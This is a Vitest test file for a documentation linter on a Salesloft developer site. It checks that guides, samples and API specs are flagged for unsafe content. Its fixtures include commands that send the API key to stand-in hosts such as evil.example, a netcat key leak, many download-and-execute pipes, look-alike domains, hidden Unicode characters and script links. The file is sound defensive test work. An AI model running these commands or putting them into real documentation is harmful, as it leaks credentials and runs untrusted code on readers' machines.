// cspell:ignore salesl cript gunzip scriptblock
import {describe, expect, test} from 'vitest';
import {textProblems} from '../../../../../plugins/lib/guide-checks/textProblems';

const GUIDE = 'docs/platform/a.mdx';
const MARKDOWN = 'docs/a.md';
const SAMPLE = 'docs/platform/samples/a.sh';
const SPEC = 'openapi/v2/a.yaml';

const bash = (...lines: readonly string[]): string => ['```bash', ...lines, '```'].join('\n');
const js = (...lines: readonly string[]): string => ['```js', ...lines, '```'].join('\n');
const KEY = '-H "Authorization: Bearer $SALESLOFT_API_KEY"';
const listed = (host: string): string =>
  `Correct it. If it is right, add the line '${host}', to src/config/otherHosts.ts.`;

type Refused = readonly [what: string, file: string, text: string, problem: string];

/** What the third review by attack published (S3). */
const PUBLISHED: readonly Refused[] = [
  [
    'a key for another host by curl',
    GUIDE,
    `Text.\n\n${bash('curl -sS \\', `  https://evil.example/v2/me ${KEY}`)}`,
    `${GUIDE}:5 Readers may send a credential to evil.example. ${listed('evil.example')} (sample-hosts)`,
  ],
  [
    'a key for a host that looks like ours, by fetch',
    GUIDE,
    js(
      "await fetch('https://api.salesl0ft.example/v2/me', {",
      '  headers: {authorization: `Bearer ${process.env.SALESLOFT_API_KEY}`},',
      '});',
    ),
    `${GUIDE}:2 The host api.salesl0ft.example looks like one of Salesloft. ${listed('api.salesl0ft.example')} (look-alike-hosts)`,
  ],
  [
    'a download for a shell',
    GUIDE,
    bash('curl -sS https://developers.salesloft.com/install | sh'),
    `${GUIDE}:2 \`| sh\` can run what a host sends. Save it to a file, and run that in a second step. (no-pipe-into-shell)`,
  ],
  [
    'a user before the host',
    GUIDE,
    '[Log in](https://api.salesloft.com@evil.example/)',
    `${GUIDE}:1 The URL https://api.salesloft.com@… has a user before its host. Remove everything up to the @. (no-user-info)`,
  ],
  [
    'a link without a scheme',
    GUIDE,
    '[a](//evil.example)',
    `${GUIDE}:1 The link //evil.example has no scheme. Begin it with https:, or with one slash. (link-targets)`,
  ],
  [
    'reversed text',
    GUIDE,
    'Text.\n\nSend \u202Etxt.exe',
    `${GUIDE}:3 U+202E is invisible, or changes the direction of the text. Remove it. (visible-characters)`,
  ],
];

/** Other ways to write the same, in other kinds of files, each with its rule. */
const VARIANTS: readonly Refused[] = [
  ['a link that runs script', GUIDE, '[a](java&#115;cript:alert(1))', 'https: and mailto:'],
  ['a link to a file of the reader', SPEC, 'description: "[a](file:///etc/passwd)"', 'https: and mailto:'],
  ['a variable in place of a host', GUIDE, bash(`curl https://$H/ ${KEY}`), 'Write the whole host.'],
  ['a statement', GUIDE, "import a from 'https://evil.example/a.js'", 'own-imports'],
  ['an export', GUIDE, "import Tabs from '@theme/Tabs';\nexport const a = document.cookie;", ':2 `export const'],
  ['an import of data', GUIDE, "import a from './a.json';", "isn't an import of a component. Remove it,"],
  ['a component that does not exist', GUIDE, "import A from '@site/src/components/None';", 'names no component: there'],
  [
    'a picture of another site',
    GUIDE,
    '![a](https://a.example/a.png)',
    "Pages can't load the picture https://a.example/a.png. Save",
  ],
  ['a folder above the components', GUIDE, "import {a} from '@site/src/components/../../evil';", 'own-imports'],
  [
    'a key for a listed company of another domain',
    SAMPLE,
    `curl https://larkfield.example.evil.io/ ${KEY}`,
    'sample-hosts',
  ],
  ['a host without a scheme', SAMPLE, `curl \\\n  evil.io/v2/me ${KEY}`, ':2 Readers may send a credential to evil.io'],
  ['a host of a header', GUIDE, '```http\nGET /v2/me\nHost: evil.io\n```', 'sample-hosts'],
  ['a host of a connection', GUIDE, '```python\nHTTPSConnection("evil.io")\n```', 'sample-hosts'],
  ['a URL with one slash', GUIDE, js("fetch('https:/evil.io/')"), 'sample-hosts'],
  ['a host in a variable', SAMPLE, `curl "https://$HOST/v2/me" ${KEY}`, 'Readers may send a credential to $host.'],
  ['a URL without a scheme', GUIDE, js('await fetch("//evil.io/v2/me")'), 'sample-hosts'],
  ['a script without a scheme', GUIDE, '```html\n<script src=//evil.io></script>\n```', 'sample-hosts'],
  ['a user in code', SAMPLE, 'curl https://api.salesloft.com:443@evil.example/', 'no-user-info'],
  [
    'a token URL of a description',
    SPEC,
    'a:\n  tokenUrl: https://evil.io/token',
    `${SPEC}:2 Readers may send a credential`,
  ],
  [
    'a sample in a description',
    SPEC,
    'description: |\n  Text.\n\n  ```bash\n  curl https://evil.io\n  ```',
    `${SPEC}:5 Readers`,
  ],
  ['a link in a recipe', 'openapi/recipes/a.arazzo.yaml', 'summary: "[a](//evil.example)"', 'link-targets'],
  ['a link with the prefix of Docusaurus', GUIDE, '[a](pathname:////evil.example)', 'link-targets'],
  ['a link by escapes', GUIDE, '[a](&#47;&#47;evil.example)', 'link-targets'],
  ['a link by reference', MARKDOWN, '[a][1]\n\n[1]: <//evil.example>', `${MARKDOWN}:3 The link //evil.example`],
  [
    'a link with the words of another',
    GUIDE,
    '[https://api.salesloft.com/](https://evil.io/)',
    'leads to https://evil.io/.',
  ],
  ['a link with a host of ours as its words', GUIDE, '[api.salesloft.com](https://evil.io/)', 'link-targets'],
  ['our name with another ending', MARKDOWN, 'https://salesloft.evil.io/', 'look-alike-hosts'],
  ['our name with hyphens', MARKDOWN, '<p>https://sales-loft.com/</p>', 'look-alike-hosts'],
  ['swapped letters', MARKDOWN, 'https://www.saleslotf.com/', 'look-alike-hosts'],
  ['letters of another alphabet', MARKDOWN, '[a](https://api.s\u0430lesloft.com/)', 'look-alike-hosts'],
  ['a character by its reference', GUIDE, 'Send &#x202E;txt.exe', 'U+202E'],
  ['a character by its escape', SPEC, 'description: "sales\\u200Bloft"', `${SPEC}:1 U+200B`],
  ['an escape in a sentence', SPEC, 'description: "A \\uFEFFsentence"', 'U+FEFF'],
  ['a soft hyphen in front matter', GUIDE, '---\ntitle: Sales\u00ADloft\n---\nText', `${GUIDE}:2 U+00AD`],
  ['a byte order mark in code', 'src/components/a.ts', "const a = '\uFEFF';", 'U+FEFF'],
  ['a pipe into a shell of root', GUIDE, bash('wget -qO- a | \\', '  sudo -E /bin/bash -s --'), 'no-pipe-into-shell'],
  ['a pipe into an interpreter', SPEC, 'description: Run `curl a | python3 -`.', 'no-pipe-into-shell'],
  ['an unknown program', SAMPLE, 'curl a | run', 'add it to plugins/lib/guide-checks/text-rules/noPipeIntoShell.ts'],
  ['a pipe of PowerShell', GUIDE, '`irm a | iex`', 'no-pipe-into-shell'],
  ['a substitution', SAMPLE, 'sh -c "$(curl -fsSL a)"', 'no-pipe-into-shell'],
  ['a substituted file', SAMPLE, 'bash <(curl a)', 'no-pipe-into-shell'],
  ['a pipe in the words of a point', GUIDE, '<Unverified what="Run curl a | sh." />', 'no-pipe-into-shell'],
  ...[
    ...['curl a | $SHELL', 'curl a | xargs -n1 bash', 'curl a | gunzip | tar xO | sh', 'curl a | tee >(sh)'],
    ...['bash < <(curl a)', '. <(curl a)', 'eval `wget a`', '$(curl a)', 'x=$(curl a); eval "$x"', 'bash <<< "$x"'],
    ...['bash -c "$x"', "iex ((New-Object Net.WebClient).DownloadString('a'))", '& ([scriptblock]::Create((irm a)))'],
    ...['python3 -c "exec(urlopen(a).read())"', "import('https://api.salesloft.com/a.js')"],
    ...["curl a | sed 's/a/b/e'", "curl a | awk '{system($0)}'", `curl a | awk '{print | "at"}'`],
    ...['curl a | while read -r x; do $x; done', 'curl a | while read x; do echo "$($x)"; done'],
    ...['irm a | ForEach-Object { & $_ }', '(irm a).b | Select-Object c | Invoke-Command'],
    'deno run https://api.salesloft.com/a.ts',
  ].map((command): Refused => [`the command ${command}`, GUIDE, bash(command), 'no-pipe-into-shell']),
  ...[
    ...[
      `curl "$BASE_URL/v2/me" ${KEY}`,
      `curl $H.$D/v2/me ${KEY}`,
      `API=https://api.salesloft.com\ncurl "$API@evil.io" ${KEY}`,
      `B=evil.io\ncurl "$B/v2/me" ${KEY}`,
    ],
    ...[`curl -sS evil.io ${KEY}`, 'http POST evil.io/v2/me "Authorization:Bearer $SALESLOFT_API_KEY"'],
    'printf "$SALESLOFT_API_KEY" | nc evil.io 80',
  ].map((command): Refused => [`a key in ${command}`, GUIDE, bash(command), 'sample-hosts']),
  ...['\\@evil.example', "'@'evil.example", '"@evil.example"'].map((end): Refused => [
    `a user before ${end}`,
    SAMPLE,
    `curl https://api.salesloft.com${end}`,
    'no-user-info',
  ]),
  ...['`${BASE}/v2/me`', "BASE + '/v2/me'", "'https://' + host"].map((url): Refused => [
    `a key for ${url}`,
    GUIDE,
    js(`fetch(${url}, {key: process.env.SALESLOFT_API_KEY})`),
    'sample-hosts',
  ]),
  ...[
    ...['curl --resolve api.salesloft.com:443:192.0.2.1', 'curl -sSk "https://a.example/?b=1&c=2"', 'curl -x a:80 b'],
    ...['curl --location-trusted a', 'HTTPS_PROXY=a:80 curl b', 'export all_proxy=a', 'cat b > /dev/tcp/a/80'],
    ...['curl "a?b=1&c" \\\n  --insecure', 'wget --no-check-certificate a', 'requests.get(a, verify=False)'],
  ].map((command): Refused => [`an unknown server by ${command}`, GUIDE, bash(command), 'checked-hosts']),
  ...['npx evil', 'npx -y @evil/a@1', 'npm install evil', '{"command": "npx", "args": ["-y", "evil"]}'].map(
    (command): Refused => [`an unknown package by ${command}`, GUIDE, bash(command), 'Readers would run the package'],
  ),
];

const ALLOWED: readonly (readonly [file: string, text: string])[] = [
  [GUIDE, 'A developer 👩\u200D💻 likes ❤\uFE0F.'],
  [GUIDE, bash('curl -sS "https://api.salesloft.com/v2/me" \\', `  ${KEY}`)],
  [SAMPLE, `API=\${SALESLOFT_API_URL:-https://api.salesloft.com}\ncurl "$API/v2/me" ${KEY} -o me.json`],
  [SAMPLE, `API=https://api.salesloft.com\ncurl "$API$1" "\${more[@]}" -o "$FOLDER/me.json" ${KEY}`],
  [SAMPLE, `curl http://127.0.0.1:\${PORT}/ ${KEY}\ncurl https://localhost:8444/ ${KEY}\ncurl http://[::1]:80/ ${KEY}`],
  [SAMPLE, `curl https://crm.larkfield.example/ ${KEY}`],
  [GUIDE, '`curl https://example.com/ https://hooks.example.org/a`'],
  [GUIDE, '```json other\n{"url": "https://linkedin.example/in/a", "host": "kits.example"}\n```'],
  [GUIDE, bash('curl -sS a -o a.sh || exit 1', 'bash a.sh', 'curl -sS a | python3 -m json.tool', 'curl a | jq .')],
  [
    GUIDE,
    bash(
      "curl a | jq '.data[] | .id' | head",
      'x="$(curl a)"',
      'if [ "$(curl a)" = 1 ]; then',
      '. ./key && node a.mjs',
    ),
  ],
  [
    GUIDE,
    bash(
      "curl a | jq -r '.data[].email' | sort | sed 's/@.*//'",
      "curl a | awk -F, '{print $1}'",
      `curl a | jq -r '.data[].id' | while read -r id; do echo "$id"; done`,
      'curl a | while read -r id; do\n  curl "https://api.salesloft.com/v2/people/$id"\ndone',
      '(Invoke-RestMethod a).data | Export-Csv people.csv',
      '(irm a).data | Where-Object { $_.id -gt 5 } | ForEach-Object { $_.name } | Format-Table',
      'irm a | Select-Object -Expand data | ConvertTo-Json',
    ),
  ],
  [
    GUIDE,
    bash(
      'curl a -d \'{"b": "c | d"}\' |',
      "  python3 -c 'import json'",
      'npx -y https://developers.salesloft.com/mcp.tgz',
    ),
  ],
  [GUIDE, '[`/llms.txt`](pathname:///llms.txt), [a](/docs/), [b](#b), [salesloft.mjs](https://github.com/a/b)'],
  [
    GUIDE,
    '[https://api.salesloft.com](https://api.salesloft.com/v2/me), https://help.salesloft.com/, a@larkfield.example',
  ],
  [GUIDE, "import { RecipeRun } from '@site/src/features/recipes';\nimport Tabs from '@theme/Tabs';\n\nText."],
  [
    SPEC,
    'license:\n  url: https://a.io/license\nservers:\n  - url: https://api.salesloft.com\nexample: https://www.salesforce.com/in/a',
  ],
  ['src/components/a.ts', "const a = '\\u202E';\nconst url = 'https://evil.example/';"],
];

describe('@hosts-03 a text', () => {
  test.each([...PUBLISHED, ...VARIANTS])('with %s is refused in %s', (_, file, text, problem) => {
    expect(textProblems(file, text).join('\n')).toContain(problem);
  });

  test.each(ALLOWED)('in %s may be %j', (file, text) => {
    expect(textProblems(file, text)).toEqual([]);
  });
});
